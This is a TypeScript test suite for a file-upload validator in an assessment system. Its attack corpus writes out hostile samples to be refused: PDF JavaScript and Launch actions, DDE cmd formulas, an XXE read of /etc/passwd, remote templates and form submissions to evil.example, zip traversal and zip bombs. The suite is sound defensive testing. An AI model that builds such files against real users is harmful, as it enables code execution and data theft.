import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { largestFile } from '#assessments';
import { AssessmentRooms, criteria, office, refusalOf } from './assessment-rooms.js';
import {
  jpegOf,
  objectStream,
  officeOf,
  officeParts,
  pdfOf,
  pngOf,
  relations,
  webpOf,
  zipOf,
  type Part,
  type Relation,
} from './hostile-files.js';

let rooms: AssessmentRooms;
beforeAll(async () => {
  rooms = await AssessmentRooms.open();
  await rooms.assign('gate', 'amal');
  await rooms.assign('clinic', 'amal');
});
afterAll(() => rooms.close());

const place = { cycle: '2026', centre: 'gate', criterion: 'leadership' };

/** A content as it comes over the wire: in pieces. */
async function* pieces(content: Uint8Array | string): AsyncGenerator<Uint8Array> {
  const bytes = Buffer.from(content);
  for (let at = 0; at < bytes.length; at += 10_000) yield await Promise.resolve(bytes.subarray(at, at + 10_000));
}

const add = (name: string, content: Uint8Array | string, where = place, actor = office) =>
  rooms.evidence.add(actor, where, { name, content: pieces(content) }, criteria);

function filesIn(folder: string): string[] {
  return readdirSync(join(rooms.home, 'evidence', folder));
}

const hashOf = (content: Uint8Array | string) => createHash('sha256').update(content).digest('hex');

describe('a file', () => {
  it.each<[string, string, Uint8Array | string]>([
    ['pdf', 'plan.pdf', pdfOf()],
    ['pdf', 'opens-at-a-page.PDF', pdfOf({ catalog: '/OpenAction [3 0 R /Fit]' })],
    ['pdf', 'compressed.pdf', pdfOf({ compressed: ['<< /Title (Plan) >>'] })],
    [
      'pdf',
      'linked.pdf',
      pdfOf({ page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>]' }),
    ],
    ['png', 'صورة المدخل.png', pngOf({ chunks: [['tEXt', 'Author\0Amal']] })],
    ['jpeg', 'gate.jpg', jpegOf({ comment: 'taken at noon' })],
    ['jpeg', 'two pictures.jpeg', Buffer.concat([jpegOf(), jpegOf()])],
    ['webp', 'gate.webp', webpOf()],
    ['docx', 'plan.docx', officeOf('docx')],
    ['xlsx', 'plan.xlsx', officeOf('xlsx')],
    ['pptx', 'plan.pptx', officeOf('pptx')],
    [
      'docx',
      'web link.docx',
      officeOf('docx', {
        'word/_rels/document.xml.rels': relations(['hyperlink', 'https://example.org/a?b=1&amp;c', 'External']),
      }),
    ],
    ['pptx', 'chart.pptx', officeOf('pptx', { 'ppt/embeddings/Sheet1.xlsx': officeOf('xlsx') })],
    [
      'docx',
      'contents.docx',
      officeOf('docx', { 'word/document.xml': fields(' TOC \\o "1-3" ', ' HYPERLINK \\l "_Toc1" ') }),
    ],
    ['text', 'ملاحظات.txt', 'زرنا المركز في الصباح.\nIt was open, and 5 < 6.\n'],
    ['text', 'counts.csv', '\ufeffday,visitors\n2026-01-02,-40\n'],
  ])('of the kind %s is taken: %s', async (kind, name, content) => {
    const where = { ...place, criterion: 'queue' };
    expect(await add(name, content, where)).toMatchObject({ kind, name: name.normalize('NFC'), hash: hashOf(content) });
  });

  it('is stored once by its content, however often and under whatever name it is sent', async () => {
    const content = pdfOf({ catalog: '/Lang (ar)' });
    await Promise.all([add('a.pdf', content), add('a.pdf', content), add('b.pdf', content)]);
    await add('a.pdf', content, { ...place, centre: 'clinic' });
    const hash = hashOf(content);
    expect(filesIn(hash.slice(0, 2))).toContain(hash);
    expect(readFileSync(join(rooms.home, 'evidence', hash.slice(0, 2), hash))).toEqual(content);
    expect(await rooms.sql('select hash from evidence_files where hash = $1', [hash])).toHaveLength(1);
    expect(await rooms.sql('select name from evidence_links where hash = $1', [hash])).toHaveLength(3);
    expect(filesIn('.incoming')).toEqual([]);
  });

  it('is taken of who may, in time, for a criterion that takes files', async () => {
    const [amal, works] = [await rooms.actor('amal'), await rooms.actor('works')];
    const content = pdfOf({ catalog: '/Lang (en)' });
    await add('amal.pdf', content, place, amal);
    await add('works.pdf', content, place, works);
    for (const actor of [await rooms.actor('badr'), await rooms.actor('health')]) {
      expect((await refusalOf(add('other.pdf', content, place, actor))).code).toBe('assessment.unknown');
      expect((await refusalOf(rooms.evidence.open(actor, place, hashOf(content)))).code).toBe('evidence.unknown');
    }
    expect((await refusalOf(add('a.pdf', content, { ...place, criterion: 'greeting' }))).code).toBe(
      'evidence.notTaken',
    );
    expect((await refusalOf(add('a.pdf', content, { ...place, criterion: 'colour' }))).code).toBe('request.invalid');
    await rooms.assignments.open(place, { selfDueOn: '2026-01-02', gradingDueOn: '2026-01-02' });
    expect((await refusalOf(add('late.pdf', content, place, works))).code).toBe('assessment.pastDue');
    expect((await refusalOf(add('late.pdf', content, place, amal))).code).toBe('assessment.pastDue');
    await add('office.pdf', content);
    await rooms.assignments.open(place, { selfDueOn: '2099-01-02', gradingDueOn: '2099-01-02' });
  });

  it('is opened where it was given, and nowhere else', async () => {
    const content = pdfOf({ catalog: '/Lang (ur)' });
    const { hash } = await add('here.pdf', content);
    const opened = await rooms.evidence.open(office, place, hash);
    expect([opened.name, opened.bytes, Buffer.concat(await opened.content.toArray())]).toEqual([
      'here.pdf',
      content.length,
      content,
    ]);
    const elsewhere = { ...place, criterion: 'queue' };
    expect((await refusalOf(rooms.evidence.open(office, elsewhere, hash))).code).toBe('evidence.unknown');
    expect((await refusalOf(rooms.evidence.open(office, { ...place, cycle: '1066' }, hash))).code).toBe(
      'evidence.unknown',
    );
  });

  it('makes a criterion rest on evidence', async () => {
    await rooms.gradings.grade(
      await rooms.actor('amal'),
      { ...place, id: '6f9619ff-8b86-4d01-b42d-00cf4fc964ff', level: 'basic', reason: 'Seen.' },
      criteria,
    );
    await add('evidence.pdf', pdfOf());
    const [work] = await rooms.work.list(await rooms.actor('works'), '2026', criteria, 'desk');
    expect(work?.evidenceMissing).toEqual([]);
  });
});

describe('what a kill leaves', () => {
  it('is removed by an upload a day later, not before', async () => {
    const incoming = join(rooms.home, 'evidence', '.incoming');
    mkdirSync(incoming, { recursive: true });
    for (const name of ['yesterday', 'now']) writeFileSync(join(incoming, name), 'half a fi');
    const yesterday = Date.now() / 1000 - 25 * 3600;
    utimesSync(join(incoming, 'yesterday'), yesterday, yesterday);
    await add('after.pdf', pdfOf());
    expect(filesIn('.incoming')).toEqual(['now']);
  });

  it('between file and row is a file that the same upload completes', async () => {
    const content = pdfOf({ catalog: '/Lang (fa)' });
    const hash = hashOf(content);
    const folder = join(rooms.home, 'evidence', hash.slice(0, 2));
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, hash), content);
    expect((await refusalOf(rooms.evidence.open(office, place, hash))).code).toBe('evidence.unknown');
    await add('again.pdf', content);
    expect((await rooms.evidence.open(office, place, hash)).bytes).toBe(content.length);
  });
});

function fields(...instructions: readonly string[]): string {
  const marks = instructions.map(
    (text) =>
      `<w:fldChar w:fldCharType="begin"/><w:instrText>${text}</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>`,
  );
  return `<?xml version="1.0" encoding="UTF-8"?><w:document>${marks.join('')}</w:document>`;
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const docxRelations = (...all: Relation[]) => officeOf('docx', { 'word/_rels/document.xml.rels': relations(...all) });
const changed = (parts: readonly Part[], name: string, change: Partial<Part>) =>
  zipOf(parts.map((part) => (part.name === name ? { ...part, ...change } : part)));

/** What is refused: a code, what it is, its name, its content. */
const corpus: readonly (readonly [string, string, string, Uint8Array | string])[] = [
  // names
  ['evidence.nameInvalid', 'a path', '../plan.pdf', pdfOf()],
  ['evidence.nameInvalid', 'a path of Windows', '..\\plan.pdf', pdfOf()],
  ['evidence.nameInvalid', 'a hidden file', '.plan.pdf', pdfOf()],
  ['evidence.nameInvalid', 'no extension', 'plan', pdfOf()],
  ['evidence.nameInvalid', 'a turned direction', 'plan\u202efdp.pdf', pdfOf()],
  ['evidence.nameInvalid', 'a line break', 'plan\r\nX: y.pdf', pdfOf()],
  ['evidence.nameInvalid', 'a quote', 'a"b.pdf', pdfOf()],
  ['evidence.nameInvalid', 'a name too long', `${'a'.repeat(150)}.pdf`, pdfOf()],
  ['evidence.nameContradicts', 'a PDF called a picture', 'plan.png', pdfOf()],
  ['evidence.nameContradicts', 'a picture called a page', 'plan.html', pngOf()],
  ['evidence.nameContradicts', 'text called a page', 'plan.html', 'plain text'],
  ['evidence.nameContradicts', 'text called a program', 'plan.js', 'plain text'],
  ['evidence.nameContradicts', 'a workbook called a document', 'plan.docx', officeOf('xlsx')],
  ['evidence.nameContradicts', 'a document called one with macros', 'plan.docm', officeOf('docx')],
  // kinds
  ['evidence.kindRefused', 'nothing', 'empty.txt', ''],
  [
    'evidence.kindRefused',
    'an SVG',
    'a.svg',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  ],
  ['evidence.kindRefused', 'a GIF', 'a.gif', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')],
  ['evidence.kindRefused', 'an archive', 'a.zip', zipOf([{ name: 'a.txt', content: 'a' }])],
  ['evidence.kindRefused', 'a packed stream', 'a.txt', gzipSync('a')],
  ['evidence.kindRefused', 'a program', 'a.txt', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
  [
    'evidence.kindRefused',
    'an OLE file',
    'a.docx',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
  ],
  ['evidence.kindRefused', 'noise', 'a.txt', Buffer.from([1, 2, 3, 0xff, 0xfe, 0])],
  ['evidence.kindRefused', 'text in UTF-16', 'a.txt', Buffer.from('\ufeffplain', 'utf16le')],
  ['evidence.kindRefused', 'a PDF behind other bytes', 'a.pdf', Buffer.concat([Buffer.from('\0\0\0\0'), pdfOf()])],
  // text
  ['evidence.active', 'a page called text', 'a.txt', '\n <!DOCTYPE html><b>hi</b>'],
  ['evidence.active', 'a script in text', 'a.txt', 'hello <script>alert(1)</script>'],
  ['evidence.active', 'an SVG called text', 'a.txt', 'see: <svg onload=alert(1)>'],
  ['evidence.active', 'DDE in a CSV', 'a.csv', "a,b\n1,=cmd|' /C calc'!A0\n"],
  ['evidence.active', 'quoted DDE in a CSV', 'a.csv', `a,"=cmd|' /C calc'!A0"\n`],
  ['evidence.doubtful', 'a PDF behind text', 'a.txt', Buffer.concat([Buffer.from('plain text\n'), pdfOf()])],
  // PDF
  ['evidence.active', 'JavaScript on opening', 'a.pdf', pdfOf({ catalog: `/OpenAction ${script}` })],
  [
    'evidence.active',
    'JavaScript among the names',
    'a.pdf',
    pdfOf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: [script] }),
  ],
  [
    'evidence.active',
    'JavaScript with its name escaped',
    'a.pdf',
    pdfOf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>' }),
  ],
  ['evidence.active', 'JavaScript in an object stream', 'a.pdf', pdfOf({ compressed: [script] })],
  ['evidence.active', 'JavaScript in an object stream whose name is escaped', 'a.pdf', hidden('/ObjStm', '/Obj#53tm')],
  ['evidence.active', 'JavaScript when a page is shown', 'a.pdf', pdfOf({ page: `/AA << /O ${script} >>` })],
  [
    'evidence.active',
    'a call home when a page is shown',
    'a.pdf',
    pdfOf({ page: '/AA << /O << /S /URI /URI (http://evil.example) >> >>' }),
  ],
  [
    'evidence.active',
    'a program that starts',
    'a.pdf',
    pdfOf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
  ],
  ['evidence.active', 'printing on opening', 'a.pdf', pdfOf({ catalog: '/OpenAction << /S /Named /N /Print >>' })],
  [
    'evidence.active',
    'an attachment',
    'a.pdf',
    pdfOf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) >>] >> >>' }),
  ],
  ['evidence.active', 'a portfolio', 'a.pdf', pdfOf({ catalog: '/Collection << >>' })],
  [
    'evidence.active',
    'an XFA form',
    'a.pdf',
    pdfOf({ catalog: '/AcroForm << /XFA [(a) 4 0 R] /Fields [] >>', objects: ['<< >>'] }),
  ],
  [
    'evidence.active',
    'a form that sends itself',
    'a.pdf',
    pdfOf({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >> >>]' }),
  ],
  [
    'evidence.active',
    'a link into another file',
    'a.pdf',
    pdfOf({ page: '/Annots [<< /Subtype /Link /A << /S /GoToR /F (other.pdf) >> >>]' }),
  ],
  ['evidence.active', 'a film', 'a.pdf', pdfOf({ page: '/Annots [<< /Subtype /RichMedia >>]' })],
  [
    'evidence.active',
    'JavaScript in a stream that another stream hides',
    'a.pdf',
    pdfOf({ objects: [`<< /Length 900 >>\nstream\n5 0 obj ${script} endobj\nendstream`] }),
  ],
  [
    'evidence.doubtful',
    'an encrypted PDF',
    'a.pdf',
    pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>' }),
  ],
  [
    'evidence.doubtful',
    'objects packed to hide them',
    'a.pdf',
    withObjects(objectStream(4, [script], '/DecodeParms << /Predictor 12 /Columns 4 >>')),
  ],
  [
    'evidence.doubtful',
    'something behind its end',
    'a.pdf',
    Buffer.concat([pdfOf(), Buffer.from('<html><script>alert(1)</script>')]),
  ],
  [
    'evidence.doubtful',
    'an archive behind its end',
    'a.pdf',
    Buffer.concat([pdfOf(), zipOf([{ name: 'a.class', content: 'a' }])]),
  ],
  ['evidence.doubtful', 'a PDF cut off', 'a.pdf', pdfOf().subarray(0, 200)],
  ['evidence.doubtful', 'a header only', 'a.pdf', '%PDF-1.7\nnothing\n%%EOF\n'],
  // pictures
  [
    'evidence.doubtful',
    'an archive behind a PNG',
    'a.png',
    Buffer.concat([pngOf(), zipOf([{ name: 'a.class', content: 'a' }])]),
  ],
  ['evidence.doubtful', 'bytes behind a PNG', 'a.png', Buffer.concat([pngOf(), Buffer.from('more')])],
  ['evidence.doubtful', 'a PDF in a PNG', 'a.png', pngOf({ chunks: [['tEXt', `a\0${pdfOf().toString('latin1')}`]] })],
  ['evidence.active', 'a page in a PNG', 'a.png', pngOf({ chunks: [['tEXt', 'a\0<html><script>alert(1)</script>']] })],
  ['evidence.doubtful', 'a pixel flood', 'a.png', pngOf({ width: 65_535, height: 65_535 })],
  ['evidence.doubtful', 'a PNG cut off', 'a.png', pngOf().subarray(0, -6)],
  [
    'evidence.doubtful',
    'an archive behind a JPEG',
    'a.jpg',
    Buffer.concat([jpegOf(), zipOf([{ name: 'a.class', content: 'a' }])]),
  ],
  ['evidence.doubtful', 'bytes behind a JPEG', 'a.jpg', Buffer.concat([jpegOf(), Buffer.from('<?php')])],
  [
    'evidence.active',
    'a page in a JPEG',
    'a.jpg',
    jpegOf({ comment: '*/=alert("x");/*<html><script src="x"></script>' }),
  ],
  ['evidence.doubtful', 'a PDF in a JPEG', 'a.jpg', jpegOf({ comment: pdfOf().toString('latin1') })],
  ['evidence.doubtful', 'a JPEG of too many pixels', 'a.jpg', jpegOf({ width: 65_535, height: 65_535 })],
  ['evidence.doubtful', 'a JPEG cut off', 'a.jpg', jpegOf().subarray(0, -2)],
  ['evidence.doubtful', 'bytes behind a WebP', 'a.webp', Buffer.concat([webpOf(), Buffer.from('more')])],
  ['evidence.doubtful', 'a WebP of too many pixels', 'a.webp', webpOf({ width: 16_777_216, height: 16_777_216 })],
  ['evidence.active', 'a page in a WebP', 'a.webp', webpOf({ extra: '<script>alert(1)</script>' })],
  // office files
  ['evidence.active', 'macros', 'a.docx', officeOf('docx', { 'word/vbaProject.bin': 'x' })],
  [
    'evidence.active',
    'macros under another name',
    'a.docx',
    officeOf('docx', { 'word/picture.png': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(64)]) }),
  ],
  [
    'evidence.active',
    'macros by relation',
    'a.xlsx',
    officeOf('xlsx', { 'xl/_rels/workbook.xml.rels': relations(['vbaProject', 'media/a.dat']) }),
  ],
  ['evidence.active', 'an ActiveX control', 'a.docx', officeOf('docx', { 'word/activeX/activeX1.xml': '<ocx/>' })],
  ['evidence.active', 'an OLE object', 'a.xlsx', officeOf('xlsx', { 'xl/embeddings/oleObject1.bin': 'x' })],
  ['evidence.active', 'something embedded', 'a.docx', officeOf('docx', { 'word/embeddings/file.pdf': pdfOf() })],
  [
    'evidence.active',
    'macros in what is embedded',
    'a.pptx',
    officeOf('pptx', { 'ppt/embeddings/Sheet1.xlsx': officeOf('xlsx', { 'xl/vbaProject.bin': 'x' }) }),
  ],
  [
    'evidence.active',
    'a template elsewhere',
    'a.docx',
    officeOf('docx', {
      'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'http://evil.example/a.dotm', 'External']),
    }),
  ],
  [
    'evidence.active',
    'an escaped template elsewhere',
    'a.docx',
    docxRelations(['attachedTemplat&#101;', 'a.dotm', 'Ext&#101;rnal']),
  ],
  [
    'evidence.active',
    'a picture elsewhere',
    'a.docx',
    docxRelations(['image', 'http://evil.example/a.png', 'External']),
  ],
  ['evidence.active', 'a link to a program', 'a.docx', docxRelations(['hyperlink', 'file:///c:/calc.exe', 'External'])],
  ['evidence.active', 'a link to a script', 'a.docx', docxRelations(['hyperlink', 'javascript:alert(1)', 'External'])],
  ['evidence.active', 'a share elsewhere', 'a.docx', docxRelations(['image', '\\\\evil.example\\a.png'])],
  [
    'evidence.active',
    'another workbook',
    'a.xlsx',
    officeOf('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
  ],
  ['evidence.active', 'a page of HTML within', 'a.docx', docxRelations(['aFChunk', 'a.dat'])],
  [
    'evidence.active',
    'DDE in a field',
    'a.docx',
    officeOf('docx', { 'word/document.xml': fields(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') }),
  ],
  [
    'evidence.active',
    'DDE in a field cut into pieces',
    'a.docx',
    officeOf('docx', {
      'word/document.xml': fields(
        'DD</w:instrText><w:instrText xml:space="preserve">EA</w:instrText><w:instrText>UTO cmd',
      ),
    }),
  ],
  [
    'evidence.active',
    'DDE in a simple field',
    'a.docx',
    officeOf('docx', { 'word/header1.xml': '<w:hdr><w:fldSimple w:instr="&#68;DE cmd"/></w:hdr>' }),
  ],
  [
    'evidence.active',
    'a field that another field writes',
    'a.docx',
    officeOf('docx', {
      'word/document.xml': `<w:document><w:fldChar w:fldCharType="begin"/>${fields(' QUOTE 68 68 69 ').replace(/<\?xml.*?\?>|<\/?w:document>/g, '')}<w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:document>`,
    }),
  ],
  [
    'evidence.active',
    'DDE in a formula',
    'a.xlsx',
    officeOf('xlsx', { 'xl/worksheets/sheet1.xml': "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>" }),
  ],
  [
    'evidence.active',
    'a click that starts a program',
    'a.pptx',
    officeOf('pptx', { 'ppt/slides/slide1.xml': '<a:hlinkClick action="ppaction://program"/>' }),
  ],
  [
    'evidence.active',
    'an entity of its own',
    'a.docx',
    officeOf('docx', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  ],
  [
    'evidence.active',
    'a content type with macros',
    'a.docx',
    officeOf('docx', {}, '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'),
  ],
  [
    'evidence.doubtful',
    'relations in UTF-16',
    'a.docx',
    officeOf('docx', {
      'word/_rels/document.xml.rels': Buffer.from(
        `\ufeff${relations(['attachedTemplate', 'http://a', 'External'])}`,
        'utf16le',
      ),
    }),
  ],
  [
    'evidence.doubtful',
    'relations in another encoding',
    'a.docx',
    officeOf('docx', { 'word/_rels/document.xml.rels': relations(['image', 'a.png']).replace('UTF-8', 'UTF-7') }),
  ],
  [
    'evidence.doubtful',
    'a broken relation',
    'a.docx',
    officeOf('docx', {
      'word/_rels/document.xml.rels': '<Relationships><Relationship Type="a Target="b" /></Relationships>',
    }),
  ],
  [
    'evidence.doubtful',
    'bytes behind an office file',
    'a.docx',
    Buffer.concat([officeOf('docx'), Buffer.from('more')]),
  ],
  ['evidence.doubtful', 'a comment of the archive', 'a.docx', zipOf(officeParts('docx'), 'hidden')],
  [
    'evidence.doubtful',
    'a part named otherwise in front of it',
    'a.docx',
    changed(officeParts('docx'), 'word/document.xml', { localName: 'word/vbaProjec.bin' }),
  ],
  ['evidence.doubtful', 'an encrypted part', 'a.docx', changed(officeParts('docx'), 'word/document.xml', { flags: 1 })],
  ['evidence.doubtful', 'a part that leads out', 'a.docx', officeOf('docx', { '../../etc/cron.d/a': 'x' })],
  [
    'evidence.doubtful',
    'a name twice',
    'a.docx',
    zipOf([...officeParts('docx'), { name: 'WORD/document.xml', content: '' }]),
  ],
  [
    'evidence.doubtful',
    'a part that lies about its size',
    'a.docx',
    changed(officeParts('docx'), 'word/document.xml', { claimedSize: 5 }),
  ],
  ['evidence.doubtful', 'a bomb', 'a.docx', officeOf('docx', { 'word/media/a.png': Buffer.alloc(40 * 1024 * 1024) })],
  [
    'evidence.doubtful',
    'a bomb that says it is small',
    'a.docx',
    zipOf([...officeParts('docx'), { name: 'word/a.xml', content: Buffer.alloc(40 * 1024 * 1024), claimedSize: 10 }]),
  ],
  [
    'evidence.doubtful',
    'too many parts',
    'a.docx',
    officeOf('docx', Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`word/${i}.xml`, '']))),
  ],
];

/** A PDF whose object stream has its kind written in another way. */
function hidden(name: string, other: string): Buffer {
  return Buffer.from(
    pdfOf({ compressed: [script] })
      .toString('latin1')
      .replace(name, other),
    'latin1',
  );
}

/** A PDF with bytes of our own between its objects and its end; the reader mends its table. */
function withObjects(more: Buffer): Buffer {
  const pdf = pdfOf();
  const at = pdf.indexOf('xref');
  return Buffer.concat([pdf.subarray(0, at), more, pdf.subarray(at)]);
}

describe('the attack corpus (S-11)', () => {
  it.each(corpus)('%s: %s', async (code, _, name, content) => {
    expect(await refusalOf(add(name, content))).toMatchObject({ code });
  });

  it('leaves nothing behind', async () => {
    const before = await rooms.sql<{ hash: string }>('select hash from evidence_files');
    for (const [, , name, content] of corpus.slice(-3)) await refusalOf(add(name, content));
    expect(filesIn('.incoming')).toEqual(['now']);
    expect(await rooms.sql('select hash from evidence_files')).toEqual(before);
  });

  it('that is too large is refused at the first byte too many, read no further', async () => {
    let asked = 0;
    async function* endless(): AsyncGenerator<Uint8Array> {
      for (;;) {
        asked += 1;
        yield await Promise.resolve(Buffer.alloc(1024 * 1024, 'a'));
      }
    }
    const trying = rooms.evidence.add(office, place, { name: 'a.txt', content: endless() }, criteria);
    expect((await refusalOf(trying)).code).toBe('evidence.tooLarge');
    expect(asked).toBe(largestFile.bytes / 1024 / 1024 + 1);
  });

  it('stands against noise: none of a hundred broken files is taken', async () => {
    const sound = [pdfOf(), pngOf(), jpegOf(), webpOf(), officeOf('docx')];
    const names = ['a.pdf', 'a.png', 'a.jpg', 'a.webp', 'a.docx'];
    for (const [index, content] of sound.entries()) {
      for (let cut = 1; cut < 20; cut += 1) {
        const broken = Buffer.concat([content.subarray(0, Math.floor((content.length * cut) / 20)), randomBytes(8)]);
        expect((await refusalOf(add(names[index] ?? '', broken))).code).toMatch(/^evidence\./);
      }
    }
  });
});
